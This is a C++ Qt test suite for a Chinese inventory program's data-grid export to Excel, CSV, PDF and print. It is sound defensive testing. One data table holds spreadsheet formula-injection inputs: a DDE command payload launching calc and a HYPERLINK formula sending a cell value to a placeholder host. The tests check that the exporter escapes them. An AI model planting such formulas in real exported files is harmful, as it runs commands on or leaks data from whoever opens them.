// Export and printing of the data grids: the Excel workbook and the CSV file read back, PDF pages,
// the print preview, large results in pages with a cancel that leaves no file, the group summary.
#include "data/session.h"
#include "data/sql.h"
#include "fields/datagrid.h"
#include "fields/grid_export.h"
#include "fields/lookupfield.h"
#include "queries/EE10_Unit.h"
#include "queries/Group_Grid_Unit.h"
#include "queries/filter_panel.h"
#include "queries/query_builders.h"
#include "support/scripted.h"
#include "support/testdb.h"
#include "support/unzip.h"
#include "ui/screens.h"

#include <QAction>
#include <QDialog>
#include <QDir>
#include <QGridLayout>
#include <QLabel>
#include <QLineEdit>
#include <QPrintPreviewDialog>
#include <QPrintPreviewWidget>
#include <QPrinter>
#include <QProcess>
#include <QProgressDialog>
#include <QPushButton>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTableView>
#include <QTest>
#include <QTimer>
#include <QXmlStreamReader>

namespace {
struct Cell {
    QString type; // "n" for numbers, "inlineStr"/"s"/"str" for texts
    QString text;
};
// Cells of the first sheet by reference ("A1"), and the frozen row split.
QHash<QString, Cell> sheetCells(const QString& xlsx, QString* frozenAt = nullptr,
                                QStringList* widths = nullptr) {
    QHash<QString, Cell> cells;
    // Texts of the shared string table, which "s" cells name by number.
    QStringList shared;
    for (QXmlStreamReader sst(unzipped(xlsx, "xl/sharedStrings.xml")); !sst.atEnd();)
        if (sst.readNextStartElement() && sst.name() == u"t") shared << sst.readElementText();
    QXmlStreamReader x(unzipped(xlsx, "xl/worksheets/sheet1.xml"));
    QString ref;
    while (!x.atEnd()) {
        if (!x.readNextStartElement()) continue;
        const auto a = x.attributes();
        if (x.name() == u"c") {
            ref = a.value("r").toString();
            cells[ref].type = a.hasAttribute("t") ? a.value("t").toString() : QStringLiteral("n");
        } else if (x.name() == u"v" || x.name() == u"t") {
            cells[ref].text = x.readElementText();
            if (cells[ref].type == u"s") cells[ref].text = shared.value(cells[ref].text.toInt());
        } else if (x.name() == u"pane" && frozenAt) {
            *frozenAt = a.value("state") == u"frozen" ? a.value("topLeftCell").toString() : QString();
        } else if (x.name() == u"col" && widths) {
            *widths << a.value("width").toString();
        }
    }
    return cells;
}

QAction* action(DataGrid* g, const char* name) {
    for (QAction* a : g->view()->actions())
        if (a->objectName() == QLatin1String(name)) return a;
    return nullptr;
}

int pdfPages(const QString& pdf) {
    const QString tool = QStandardPaths::findExecutable("pdfinfo");
    if (!tool.isEmpty()) {
        QProcess p;
        p.start(tool, {pdf});
        p.waitForFinished();
        for (const QString& line : QString::fromUtf8(p.readAllStandardOutput()).split('\n'))
            if (line.startsWith("Pages:")) return line.mid(6).trimmed().toInt();
    }
    // Qt's writer keeps page objects readable: count them.
    QFile f(pdf);
    f.open(QIODevice::ReadOnly);
    return int(f.readAll().count("/Type /Page\n"));
}

// The text of a PDF as a reader takes it out.
QString pdfText(const QString& pdf) {
    QProcess p;
    p.start(QStandardPaths::findExecutable("pdftotext"), {pdf, "-"});
    p.waitForFinished();
    return QString::fromUtf8(p.readAllStandardOutput());
}

// Presses "取消" of the export progress as soon as it shows.
void cancelProgressWhenShown(QObject* context) {
    auto* t = new QTimer(context);
    QObject::connect(t, &QTimer::timeout, t, [t] {
        for (QWidget* w : QApplication::topLevelWidgets())
            if (auto* p = qobject_cast<QProgressDialog*>(w);
                p && p->objectName() == "exportProgress" && p->isVisible()) {
                if (auto* b = p->findChild<QPushButton*>()) QTest::mouseClick(b, Qt::LeftButton);
                t->stop();
                t->deleteLater();
            }
    });
    t->start(0);
}

void fillRows(int n) {
    Sql::run("WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM c WHERE i<?) "
             "INSERT INTO kesp_inv_detail_tree(warehouse,item_code,attr_code,size_code,stage_code,qty) "
             "SELECT 'W01', " + TestDb::padded("I", "i", 6) + ", 'A1', 'Z1', 'G1', i FROM c",
             {n});
}

// A window with a labelled filter field above a grid of balance rows.
struct Window {
    QDialog dialog;
    QLineEdit* warehouse = new QLineEdit("W01");
    DataGrid* grid = new DataGrid;
    Window() {
        dialog.setWindowTitle("库存清单");
        auto* g = new QGridLayout(&dialog);
        g->addWidget(new QLabel("仓库："), 0, 0);
        g->addWidget(warehouse, 0, 1);
        g->addWidget(grid, 1, 0, 1, 2);
        grid->setColumns(
            {{"item_code", "项目代码", 90}, {"qty", "数量", 70, "#,##0.##", false, false, true, "#,##0.##"}});
        grid->model()->setSort("item_code", Qt::AscendingOrder);
    }
    void open() { grid->open("SELECT * FROM kesp_inv_detail_tree WHERE warehouse=?", {warehouse->text()}); }
};
} // namespace

class TstExport : public QObject {
    Q_OBJECT
private slots:
    void init() { Session::setUserCode("abc"); }
    void stockQueryToExcel();
    void csvByteForByte();
    void formulaTextsStayText_data();
    void formulaTextsStayText();
    void xlsxDatesAndTotalLabel();
    void printedTextsAreWhole_data();
    void printedTextsAreWhole();
    void longPrintAsksFirst();
    void largeResultStreamsAndCancelLeavesNoFile();
    void pdfPagesAndPrintPreview();
    void groupSummaryWithItsTotalRow();
};

void TstExport::stockQueryToExcel() {
    TestDb db;
    TestDb::seedMasters();
    ScriptedSeam seam;
    Sql::run(
        "INSERT INTO kesp_item_master VALUES ('007','童装外套',NULL,NULL,'U1','件','B1','上衣','S1','衬衫')");
    Sql::run(
        "INSERT INTO "
        "kesp_inv_detail_tree(warehouse,warehouse_name,item_code,attr_code,size_code,stage_code,qty) "
        "VALUES ('W01','一号仓库','007','A1','Z1','G1',1234.5),('W01','一号仓库','I001','A1','Z2','G1',2)");
    TEE10_form f;
    f.filters->warehouse_a->setText("W01");
    f.Cmd_Query->click();
    QCOMPARE(f.DBGrid1->rowCount(), 2);
    f.filters->warehouse_a->setText("W02"); // typed after the query: the heading keeps what was used
    // The screen's own context actions come before the export group.
    auto* own = new QAction("自己的", &f);
    f.DBGrid1->addContextAction(own);
    const auto actions = f.DBGrid1->view()->actions();
    QVERIFY(actions.indexOf(own) < actions.indexOf(action(f.DBGrid1, "actExportExcel")));

    const QString path = QDir(db.dir()).filePath("库存");
    seam.saveFile = path; // no suffix typed: ".xlsx" is added
    action(f.DBGrid1, "actExportExcel")->trigger();
    QVERIFY2(QFile::exists(path + ".xlsx"), qPrintable(seam.shown.join('|')));
    QVERIFY(seam.saveSuggested.value(0).endsWith(".xlsx"));
    QCOMPARE(seam.kinds, QStringList{"notice"});

    QString frozen;
    QStringList widths;
    const auto cells = sheetCells(path + ".xlsx", &frozen, &widths);
    QCOMPARE(cells["A1"].text, f.windowTitle());
    QVERIFY2(cells["A2"].text.contains("W01") && !cells["A2"].text.contains("W02"),
             qPrintable(cells["A2"].text));
    QCOMPARE(cells["A4"].text, QString("项目代码"));
    QCOMPARE(frozen, QString("A5")); // the caption row stays in view
    QVERIFY(!widths.isEmpty());
    const QStringList captions = f.DBGrid1->captions();
    const int qtyCol = int(captions.indexOf("数量"));
    const QString q = QString(QChar('A' + qtyCol));
    // Rows sorted by item code: "007" first, kept as text with its zeros.
    QCOMPARE(cells["A5"].type, QString("s"));
    QCOMPARE(cells["A5"].text, QString("007"));
    QCOMPARE(cells["B5"].text, QString("童装外套"));
    QCOMPARE(cells[q + "5"].type, QString("n"));
    QCOMPARE(cells[q + "5"].text.toDouble(), 1234.5);
    QCOMPARE(cells[q + "7"].type, QString("n")); // the footer row: the sum as a number
    QCOMPARE(cells[q + "7"].text.toDouble(), 1236.5);
    QVERIFY(!cells.contains("A8"));
    QVERIFY(unzipped(path + ".xlsx", "xl/styles.xml").contains("formatCode=\"#,##0.##\""));
    // Giving up the chooser writes nothing.
    seam.reset();
    seam.saveFile.clear();
    action(f.DBGrid1, "actExportExcel")->trigger();
    QVERIFY(seam.shown.isEmpty());
}

void TstExport::csvByteForByte() {
    TestDb db;
    ScriptedSeam seam;
    Window w;
    w.grid->setColumns({{"item_code", "项目代码", 80},
                        {"item_name", "名称", 120},
                        {"qty", "数量", 70, "#,##0.##", false, false, true, "#,##0.##"},
                        {"price", "价格", 70, {}, false, false, true, "0.00#"},
                        {"red_flag", "red", 0, {}, false, false, false}});
    w.grid->showRows({"item_code", "item_name", "qty", "price", "red_flag"},
                     {{"007", "衬衫, \"长袖\"", 1234.5, 12.0, "Y"},
                      {"I002", "两行\n文字", -2.25, QVariant(), QVariant()}});
    const QString path = QDir(db.dir()).filePath("list.csv");
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Csv, path));
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray expected = "\xEF\xBB\xBF"
                                "项目代码,名称,数量,价格\r\n"
                                "007,\"衬衫, \"\"长袖\"\"\",1234.5,12.00\r\n"
                                "I002,\"两行\n文字\",-2.25,\r\n"
                                "合计,,1232.25,\r\n";
    QCOMPARE(f.readAll(), expected);
    QVERIFY(seam.shown.isEmpty());
    // Overwriting a file that is there: replaced whole.
    w.grid->showRows({"item_code", "qty"}, {{"X", 1}});
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Csv, path));
    f.close();
    QVERIFY(f.open(QIODevice::ReadOnly));
    QCOMPARE(f.readAll(), QByteArray("\xEF\xBB\xBF项目代码,名称,数量,价格\r\nX,,1,\r\n合计,,1,\r\n"));
}

void TstExport::largeResultStreamsAndCancelLeavesNoFile() {
    TestDb db;
    ScriptedSeam seam;
    const int n = 5000;
    fillRows(n);
    Window w;
    w.open();
    QCOMPARE(w.grid->rowCount(), GridModel::FetchChunk); // only the first page is loaded
    const QString csv = QDir(db.dir()).filePath("all.csv");
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Csv, csv));
    QFile f(csv);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QList<QByteArray> lines = f.readAll().split('\n');
    QCOMPARE(lines.size(), n + 3); // captions, rows, footer, and the empty rest after the last line end
    QCOMPARE(lines[1], QByteArray("I000001,1\r"));
    QCOMPARE(lines[n], QByteArray("I005000,5000\r"));
    QCOMPARE(lines[n + 1], QByteArray("合计,12502500\r"));
    QCOMPARE(w.grid->rowCount(), GridModel::FetchChunk); // the grid itself read no more

    // A numbered result read by its key, and the rows on screen as edited: the same lines.
    w.grid->model()->setSort(QString(), Qt::AscendingOrder);
    w.grid->openKeyed("SELECT ID AS k, * FROM kesp_inv_detail_tree", {}, "k");
    w.grid->model()->setValue(1, "qty", 99.5);
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Csv, csv));
    f.close();
    QVERIFY(f.open(QIODevice::ReadOnly));
    QList<QByteArray> keyed = f.readAll().split('\n');
    QCOMPARE(keyed[2], QByteArray("I000002,99.5\r"));
    keyed[2] = lines[2];
    QCOMPARE(keyed, lines);
    QVERIFY(!TestDb::hasTempTable("grid_export_rows"));

    // Cancelled at the progress dialog: nothing under the name, no temporary left, said so.
    const int before = int(QDir(db.dir()).entryList(QDir::Files | QDir::Hidden).size());
    for (auto format : {GridExport::Format::Xlsx, GridExport::Format::Csv, GridExport::Format::Pdf}) {
        seam.reset();
        const QString path = QDir(db.dir()).filePath("cancelled.out");
        cancelProgressWhenShown(this);
        QVERIFY(!GridExport::of(w.grid)->exportTo(format, path));
        QVERIFY(!QFile::exists(path));
        QCOMPARE(int(QDir(db.dir()).entryList(QDir::Files | QDir::Hidden).size()), before);
        QCOMPARE(seam.shown, QStringList{"导出已取消。"});
    }
    // A folder that cannot be written: a clear error, no file.
    seam.reset();
    QVERIFY(!GridExport::of(w.grid)->exportTo(GridExport::Format::Xlsx, db.dir() + "/nope/x.xlsx"));
    QCOMPARE(seam.kinds, QStringList{"error"});
}

void TstExport::pdfPagesAndPrintPreview() {
    TestDb db;
    ScriptedSeam seam;
    Window w;
    QPrinter a4(QPrinter::HighResolution);
    a4.setPageSize(QPageSize(QPageSize::A4));
    a4.setPageOrientation(QPageLayout::Landscape);
    w.open();
    const int perPage = GridExport::of(w.grid)->pageRows(&a4);
    QVERIFY(perPage > 10);
    fillRows(2 * perPage + 1);                                              // three pages with the footer row
    Sql::run("UPDATE kesp_inv_detail_tree SET qty=-qty WHERE qty % 5 = 0"); // reversals, printed in red
    w.grid->model()->setRowColor([](const GridModel& m, int row) -> std::optional<QColor> {
        return m.value(row, "qty").toDouble() < 0 ? QColor(255, 0, 0) : QColor(0, 0, 255);
    });
    w.open();
    const QString pdf = QDir(db.dir()).filePath("list.pdf");
    seam.saveFile = pdf;
    action(w.grid, "actExportPdf")->trigger();
    QVERIFY2(QFile::exists(pdf), qPrintable(seam.shown.join('|')));
    QCOMPARE(pdfPages(pdf), 3);
    if (qEnvironmentVariableIsSet("YC_KEEP_PDF")) QFile::copy(pdf, qEnvironmentVariable("YC_KEEP_PDF"));

    // "打印…": the preview shows the same pages, A4 landscape unless the dialog chose otherwise.
    int previewPages = 0, portraitPages = 0;
    QPageLayout::Orientation orientation = QPageLayout::Portrait;
    seam.onPreview = [&](QDialog* d) {
        auto* p = qobject_cast<QPrintPreviewDialog*>(d);
        orientation = p->printer()->pageLayout().orientation();
        auto* widget = d->findChild<QPrintPreviewWidget*>();
        widget->updatePreview();
        previewPages = widget->pageCount();
        // A portrait page chosen in the dialog holds more rows: the pages follow it.
        p->printer()->setPageOrientation(QPageLayout::Portrait);
        widget->updatePreview();
        portraitPages = widget->pageCount();
        return int(QDialog::Rejected);
    };
    action(w.grid, "actPrint")->trigger();
    QCOMPARE(seam.modals.last(), QString("printPreview"));
    QCOMPARE(orientation, QPageLayout::Landscape);
    QCOMPARE(previewPages, 3);
    QVERIFY(portraitPages > 0 && portraitPages < previewPages);
}

void TstExport::groupSummaryWithItsTotalRow() {
    TestDb db;
    TestDb::seedMasters();
    ScriptedSeam seam;
    Sql::run(
        "INSERT INTO kesp_inv_detail_tree(warehouse,item_code,attr_code,size_code,stage_code,qty) VALUES "
        "('W01','I001','A1','Z1','G1',5),('W01','I001','A1','Z2','G1',2),('W01','I002','A1','Z2','G1',4)");
    QueryBuilders::refillWorkTable(QueryBuilders::stockQuery({{"warehouse", "W01"}}));
    Group_Grid_form* g = longLived<Group_Grid_form>();
    g->prepare("尺寸", "名称");
    const QString csv = QDir(db.dir()).filePath("group.csv");
    seam.saveFile = csv;
    action(g->DBGrid1, "actExportCsv")->trigger();
    QFile f(csv);
    QVERIFY2(f.open(QIODevice::ReadOnly), qPrintable(seam.shown.join('|')));
    const QStringList lines = QString::fromUtf8(f.readAll().mid(3)).split("\r\n");
    QCOMPARE(lines.value(0), QString("分类汇总,行小计,M码,S码"));
    QVERIFY(lines.contains("男式衬衫,7,2,5"));
    QVERIFY(lines.contains("女式长裤,4,4,"));
    QCOMPARE(lines.value(3), QString(",合计：11,6,5"));
    const QString xlsx = QDir(db.dir()).filePath("group.xlsx");
    QVERIFY(GridExport::of(g->DBGrid1)->exportTo(GridExport::Format::Xlsx, xlsx));
    const auto cells = sheetCells(xlsx);
    QCOMPARE(cells["A1"].text, QString("分类汇总表"));
    QCOMPARE(cells["B6"].text.toDouble(), 11.0);
    QVERIFY(unzipped(xlsx, "xl/styles.xml").contains("&quot;合计：&quot;#.##"));
    g->dropColumns();
}

void TstExport::formulaTextsStayText_data() {
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("csvLine");
    QTest::newRow("equals") << "=1+1" << QByteArray("I1,'=1+1,-2");
    QTest::newRow("command") << "=cmd|' /C calc'!A0" << QByteArray("I1,'=cmd|' /C calc'!A0,-2");
    QTest::newRow("link") << "=HYPERLINK(\"http://x/\"&A5,\"点击\")"
                          << QByteArray("I1,\"'=HYPERLINK(\"\"http://x/\"\"&A5,\"\"点击\"\")\",-2");
    QTest::newRow("plus") << "+1" << QByteArray("I1,'+1,-2");
    QTest::newRow("minus") << "-1+2" << QByteArray("I1,'-1+2,-2");
    QTest::newRow("at") << "@SUM(A1)" << QByteArray("I1,'@SUM(A1),-2");
    QTest::newRow("tab") << "\t=1" << QByteArray("I1,'\t=1,-2");
    QTest::newRow("carriage return") << "\r=1" << QByteArray("I1,\"'\r=1\",-2");
    QTest::newRow("plain") << "衬衫=1" << QByteArray("I1,衬衫=1,-2");
}

// A text a spreadsheet would run as a formula: an apostrophe in front in the CSV, a string in the
// workbook; negative numbers stay numbers.
void TstExport::formulaTextsStayText() {
    QFETCH(QString, name);
    QFETCH(QByteArray, csvLine);
    TestDb db;
    ScriptedSeam seam;
    Window w;
    w.grid->setColumns({{"item_code", "项目代码", 80}, {"item_name", "名称", 120}, {"qty", "数量", 70}});
    w.grid->showRows({"item_code", "item_name", "qty"}, {{"I1", name, -2}});
    const QString csv = QDir(db.dir()).filePath("f.csv"), xlsx = QDir(db.dir()).filePath("f.xlsx");
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Csv, csv));
    QFile f(csv);
    QVERIFY(f.open(QIODevice::ReadOnly));
    QCOMPARE(f.readAll().split('\n').value(1).chopped(1), csvLine);
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Xlsx, xlsx));
    const auto cells = sheetCells(xlsx);
    QCOMPARE(cells["B5"].type, QString("s"));
    QCOMPARE(QString(cells["B5"].text).replace("_x000D_", "\r"), name); // the workbook's escape of a carriage return
    QCOMPARE(cells["C5"].type, QString("n"));
}

// Dates are dates in the workbook, shown as the program shows them; the footer row is named.
void TstExport::xlsxDatesAndTotalLabel() {
    TestDb db;
    ScriptedSeam seam;
    Window w;
    w.grid->setColumns({{"procure_date", "入库日期", 80},
                        {"bill_no", "单据号", 80},
                        {"qty", "数量", 70, "#,##0.##", false, false, true, "#,##0.##"}});
    w.grid->showRows({"procure_date", "bill_no", "qty"}, {{"2026/12/09", "2026/13/45", 3}});
    const QString xlsx = QDir(db.dir()).filePath("d.xlsx"), pdf = QDir(db.dir()).filePath("d.pdf");
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Xlsx, xlsx));
    const auto cells = sheetCells(xlsx);
    QCOMPARE(cells["A5"].type, QString("n"));
    QCOMPARE(cells["A5"].text.toLongLong(), QDate(1899, 12, 30).daysTo(QDate(2026, 12, 9)));
    QVERIFY(unzipped(xlsx, "xl/styles.xml").contains("formatCode=\"yyyy/mm/dd\""));
    QCOMPARE(cells["B5"].text, QString("2026/13/45")); // not a date: a text
    QCOMPARE(cells["A6"].text, QString("合计"));
    QCOMPARE(cells["C6"].text.toDouble(), 3.0);
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Pdf, pdf));
    QVERIFY(pdfText(pdf).contains("合计"));
}

void TstExport::printedTextsAreWhole_data() {
    QTest::addColumn<QStringList>("captions");
    QTest::addColumn<QStringList>("values");
    QTest::addColumn<int>("widthOnScreen");
    QTest::addColumn<bool>("pagesAcross");
    // The stock-in record query, as narrow on screen as its window made them, one column empty.
    QTest::newRow("record query")
        << QStringList{"项目代码", "项目名称", "型号", "规格", "数量", "价格", "属性", "尺寸", "等级", "大类",
                       "小类", "单位名称", "供应商名称", "单据号", "入库类型名称", "仓库名称", "入库日期"}
        << QStringList{"I000123", "男式纯棉短袖衬衫加厚款", "XL-2026A", "", "1,234.5", "88.00", "藏蓝色", "XXL",
                       "一等品", "上衣", "衬衫", "件", "上海某某服装辅料有限公司", "P000012345", "采购入库",
                       "一号成品仓库", "2026/12/09"}
        << 40 << false;
    QStringList wide, values;
    for (int i = 0; i < 40; ++i)
        wide << QString("供应商名称%1").arg(i), values << QString("上海某某服装辅料有限公司%1").arg(i);
    QTest::newRow("wider than a page") << wide << values << 100 << true; // continues on pages across
}

// Every caption, cell and sum is printed whole, whatever the widths on screen were.
void TstExport::printedTextsAreWhole() {
    QFETCH(QStringList, captions);
    QFETCH(QStringList, values);
    QFETCH(int, widthOnScreen);
    QFETCH(bool, pagesAcross);
    TestDb db;
    ScriptedSeam seam;
    Window w;
    QList<GridColumn> cols;
    QStringList fields;
    QVector<QVariant> row;
    for (int i = 0; i < captions.size(); ++i) {
        fields << QString("f%1").arg(i);
        cols.append({fields.last(), captions[i], widthOnScreen});
        row << (values[i].isEmpty() ? QVariant() : QVariant(values[i]));
    }
    cols.append({"qty", "数量", 20, "合计：#.##", false, false, true, "#,##0.##"});
    fields << "qty";
    row << 169000;
    w.grid->setColumns(cols);
    w.grid->showRows(fields, {row, row});
    const QString pdf = QDir(db.dir()).filePath("p.pdf");
    QVERIFY(GridExport::of(w.grid)->exportTo(GridExport::Format::Pdf, pdf));
    if (qEnvironmentVariableIsSet("YC_KEEP_PDF")) QFile::copy(pdf, qEnvironmentVariable("YC_KEEP_PDF"));
    // Compared exactly: an ideograph read back as its radical's form (目 as ⽬) is a fault.
    const auto kc = [](const QString& t) { return t; };
    QString text = kc(pdfText(pdf));
    text.remove(QRegularExpression("\\s"));
    for (int i = 0; i < captions.size(); ++i) {
        QVERIFY2(text.contains(kc(captions[i])), qPrintable(captions[i]));
        QVERIFY2(text.count(kc(values[i])) >= 2, qPrintable(values[i]));
    }
    QVERIFY(text.contains(kc("合计：338000")));
    QCOMPARE(pdfPages(pdf) > 1, pagesAcross);
}

// A print or PDF of more than 500 pages is asked for first; No prints nothing.
void TstExport::longPrintAsksFirst() {
    TestDb db;
    ScriptedSeam seam;
    fillRows(1100);
    Window w;
    w.open();
    QPrinter small(QPrinter::HighResolution);
    small.setOutputFormat(QPrinter::PdfFormat);
    small.setOutputFileName(QDir(db.dir()).filePath("long.pdf"));
    small.setPageSize(QPageSize(QSizeF(90, 45), QPageSize::Millimeter)); // two rows a page
    small.setPageMargins(QMarginsF(2, 2, 2, 2), QPageLayout::Millimeter);
    QVERIFY(!GridExport::of(w.grid)->printTo(&small));
    QCOMPARE(seam.kinds, QStringList{"confirm"});
    QVERIFY(!QFile::exists(small.outputFileName()));
    seam.reset();
    seam.answers = {true};
    QVERIFY(GridExport::of(w.grid)->printTo(&small));
    QCOMPARE(seam.kinds, QStringList{"confirm"});
    QVERIFY(pdfPages(small.outputFileName()) > 500);
}

QTEST_MAIN(TstExport)
#include "tst_export.moc"
